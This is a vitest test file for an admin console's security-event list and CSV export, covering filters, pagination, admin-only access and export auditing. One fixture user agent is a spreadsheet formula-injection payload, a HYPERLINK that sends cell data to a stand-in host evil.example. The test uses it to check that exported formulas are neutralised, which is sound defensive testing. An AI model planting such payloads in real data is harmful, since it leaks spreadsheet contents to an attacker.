import type { Session } from "next-auth";
import { TRPCError } from "@trpc/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CSV_COLUMNS, exportEvents, streamEventsCsv } from "../../server/audit/events-console.service.ts";
import { recordEvent } from "../../server/audit/audit.service.ts";
import { importDocument } from "../../server/import/import.service.ts";
import { appRouter } from "../../server/trpc/root.ts";
import { bootstrapAdmin } from "../../server/users/admin.service.ts";
import { parseCsv } from "../support/csv.ts";
import { DB_KINDS, installTestDatabase, type TTestDatabase } from "../support/test-db.ts";

const T0 = Date.parse("2026-11-20T10:00:00.000Z");
const at = (minutes: number) => new Date(T0 + minutes * 60_000);
const EVIL_UA = '=HYPERLINK("http://evil.example/?"&A1,"click"), really';

// Six events an hour apart (two in the same millisecond, to exercise the id tiebreak), newest last.
const EVENTS = [
  { type: "user.sign_in_failed", subject: "anna", clientId: "shop", ip: "192.0.2.1", userAgent: EVIL_UA, params: { reason: "bad_password" }, createdAt: at(0) },
  { type: "user.signed_in", subject: "anna", clientId: "shop", ip: "192.0.2.1", userAgent: "Firefox", params: { method: "pwd" }, createdAt: at(60) },
  { type: "user.signed_in", subject: "boris", clientId: "crm", ip: "198.51.100.7", userAgent: "-Chrome", params: { method: "pwd" }, createdAt: at(120) },
  { type: "user.signed_out", subject: "anna", clientId: "crm", ip: "192.0.2.1", userAgent: null, params: { note: 'a "quoted", text\nline' }, createdAt: at(180) },
  { type: "client.auth_failed", subject: null, clientId: "shop", ip: null, userAgent: null, params: { reason: "bad_secret" }, createdAt: at(240) },
  { type: "user.sign_in_failed", subject: "boris", clientId: "shop", ip: "198.51.100.7", userAgent: "@curl", params: { reason: "unknown_account" }, createdAt: at(240) },
];

/** The bytes as text, byte order mark kept (Response.text() would drop it). */
async function textOf(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
}

describe.each(DB_KINDS)("the console's events page on %s", (kind) => {
  let t: TTestDatabase;
  let caller: ReturnType<typeof appRouter.createCaller>;
  let adminId: string;
  /** Ids in insertion order, as strings. */
  let ids: string[];

  beforeAll(async () => {
    t = await installTestDatabase(kind);
    await bootstrapAdmin({ password: "admin-password-1", embedded: true });
    adminId = (await t.db.prisma.user.findUniqueOrThrow({ where: { login: "admin" } })).id;
    caller = appRouter.createCaller({ session: { user: { id: adminId }, expires: "2999-01-01T00:00:00Z" } as Session, ip: "203.0.113.9" });
    await importDocument({ users: [{ sub: "anna", attributes: { given_name: "Анна", family_name: "Событиева", email: { value: "anna@example.org", vrf: true } } }] }, {});
    await t.db.prisma.securityEvent.deleteMany({});
    ids = [];
    for (const e of EVENTS) ids.push(String((await t.db.prisma.securityEvent.create({ data: e, select: { id: true } })).id));
  });
  afterAll(async () => t?.close());

  const idsOf = (page: { items: { id: string }[] }) => page.items.map((e) => e.id);
  const newestFirst = (...indexes: number[]) => indexes.map((i) => ids[i]);

  it("names the account each event is about: its name and e-mail, the id kept; none for an account that is gone", async () => {
    const page = await caller.console.events.list({ sub: "anna", limit: 50 });
    expect(page.items.map((e) => e.person)).toEqual(page.items.map(() => ({ name: "Анна Событиева", login: null, email: "anna@example.org" })));
    expect(page.items.length).toBeGreaterThan(0);
    expect((await caller.console.events.list({ sub: "boris", limit: 50 })).items.map((e) => e.person)).toEqual([null, null]);
  });

  it("records an event whose parameters carry a NUL, without it (PostgreSQL's JSON cannot hold one)", async () => {
    await recordEvent("user.props_changed", { subject: "nul-case" }, { reason: "lost\u0000phone", nested: { "k\u0000": ["a\u0000"] } });
    const stored = await t.db.prisma.securityEvent.findFirstOrThrow({ where: { subject: "nul-case" } });
    expect(stored.params).toEqual({ reason: "lostphone", nested: { k: ["a"] } });
    await t.db.prisma.securityEvent.deleteMany({ where: { subject: "nul-case" } });
  });

  it("lists the whole trail newest first (ties by id), in keyset pages that stay put while events arrive", async () => {
    const first = await caller.console.events.list({ limit: 4 });
    expect(idsOf(first)).toEqual(newestFirst(5, 4, 3, 2));
    expect(first.items[0]).toEqual({
      id: ids[5],
      type: "user.sign_in_failed",
      time: Math.floor(at(240).getTime() / 1000),
      subject: "boris",
      clientId: "shop",
      ip: "198.51.100.7",
      userAgent: "@curl",
      params: { reason: "unknown_account" },
      person: null,
    });
    await t.db.prisma.securityEvent.create({ data: { type: "user.signed_in", subject: "late", createdAt: at(300) } });
    const second = await caller.console.events.list({ limit: 4, after: first.nextCursor! });
    expect(idsOf(second)).toEqual(newestFirst(1, 0));
    expect(second.nextCursor).toBeNull();
    await t.db.prisma.securityEvent.deleteMany({ where: { subject: "late" } });
  });

  it("filters by user, client, type (one or several), address and time range, together", async () => {
    const list = (f: Record<string, string>) => caller.console.events.list({ ...f, limit: 50 }).then(idsOf);
    expect(await list({ sub: "anna" })).toEqual(newestFirst(3, 1, 0));
    expect(await list({ client: "shop" })).toEqual(newestFirst(5, 4, 1, 0));
    expect(await list({ type: "user.signed_in" })).toEqual(newestFirst(2, 1));
    expect(await list({ type: "user.signed_in,user.signed_out" })).toEqual(newestFirst(3, 2, 1));
    expect(await list({ ip: "198.51.100.7" })).toEqual(newestFirst(5, 2));
    expect(await list({ from: at(60).toISOString(), to: at(240).toISOString() })).toEqual(newestFirst(3, 2, 1));
    expect(await list({ from: "2026-11-20T13:00:00+02:00" })).toEqual(newestFirst(5, 4, 3, 2, 1));
    expect(await list({ sub: "anna", client: "shop", type: "user.sign_in_failed" })).toEqual(newestFirst(0));
    // Empty fields (a cleared form, `?sub=` in a URL) mean "any"; spaces around a value do not count.
    expect(await list({ sub: "", client: " ", type: "", ip: "", from: "", to: "" })).toHaveLength(6);
    expect(await list({ sub: " anna " })).toEqual(newestFirst(3, 1, 0));
    expect(await list({ sub: "nobody" })).toEqual([]);
  });

  it("finds a person's events by their name, e-mail or phone as well as by the subject", async () => {
    const list = (f: Record<string, string>) => caller.console.events.list({ ...f, limit: 50 }).then(idsOf);
    expect(await list({ sub: "Событиева" })).toEqual(newestFirst(3, 1, 0));
    expect(await list({ sub: "anna@example" })).toEqual(newestFirst(3, 1, 0));
    expect(await list({ sub: "событ", type: "user.sign_in_failed" })).toEqual(newestFirst(0));
    // An account deleted since keeps its events under its subject, found exactly; a part of it finds no one.
    expect(await list({ sub: "boris" })).toEqual(newestFirst(5, 2));
    expect(await list({ sub: "bor" })).toEqual([]);
  });

  it("refuses malformed filters and cursors with field errors, and callers that are not administrators", async () => {
    for (const bad of [{ type: "Not A Type" }, { from: "yesterday" }, { to: "2026-11-20" }, { after: "abc" }, { sub: "x".repeat(257) }]) {
      const e = await caller.console.events.list(bad).catch((x: unknown) => x);
      expect(e, JSON.stringify(bad)).toBeInstanceOf(TRPCError);
      expect((e as TRPCError).code).toBe("BAD_REQUEST");
    }
    const anonymous = appRouter.createCaller({ session: null });
    await expect(anonymous.console.events.list({})).rejects.toMatchObject({ code: "UNAUTHORIZED" });
  });

  it("streams the filtered events as RFC 4180 CSV with formulas neutralised, page by page", async () => {
    const text = await textOf(streamEventsCsv({}, 2));
    expect(text.startsWith("\uFEFFid,time,type,")).toBe(true);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(CSV_COLUMNS);
    expect(rows.map((r) => r[0])).toEqual(newestFirst(5, 4, 3, 2, 1, 0));
    const byId = new Map(rows.map((r) => [r[0], r]));
    expect(byId.get(ids[0]!)).toEqual([ids[0], "2026-11-20T10:00:00.000Z", "user.sign_in_failed", "anna", "shop", "192.0.2.1", `'${EVIL_UA}`, '{"reason":"bad_password"}']);
    expect(byId.get(ids[2]!)![6]).toBe("'-Chrome");
    expect(byId.get(ids[5]!)![6]).toBe("'@curl");
    expect(JSON.parse(byId.get(ids[3]!)![7]!)).toEqual({ note: 'a "quoted", text\nline' });
    expect(byId.get(ids[4]!)!.slice(3, 7)).toEqual(["", "shop", "", ""]);

    const filtered = parseCsv(await textOf(streamEventsCsv({ subject: "boris" }, 1)));
    expect(filtered.slice(1).map((r) => r[0])).toEqual(newestFirst(5, 2));
    expect(parseCsv(await textOf(streamEventsCsv({ subject: "nobody" })))).toEqual([CSV_COLUMNS]);
  });

  it("records an export, with its filter and the administrator, before the rows go out", async () => {
    const admin = { subject: adminId, ip: "203.0.113.9", userAgent: "Firefox" };
    const rows = parseCsv(await textOf(await exportEvents({ sub: "anna", type: "", client: "shop" }, admin))).slice(1);
    expect(rows.map((r) => r[0])).toEqual(newestFirst(1, 0));
    const recorded = await t.db.prisma.securityEvent.findMany({ where: { type: "console.events_exported" } });
    expect(recorded).toHaveLength(1);
    expect(recorded[0]).toMatchObject({ subject: adminId, ip: "203.0.113.9", params: { filter: { sub: "anna", client: "shop" } } });
  });
});
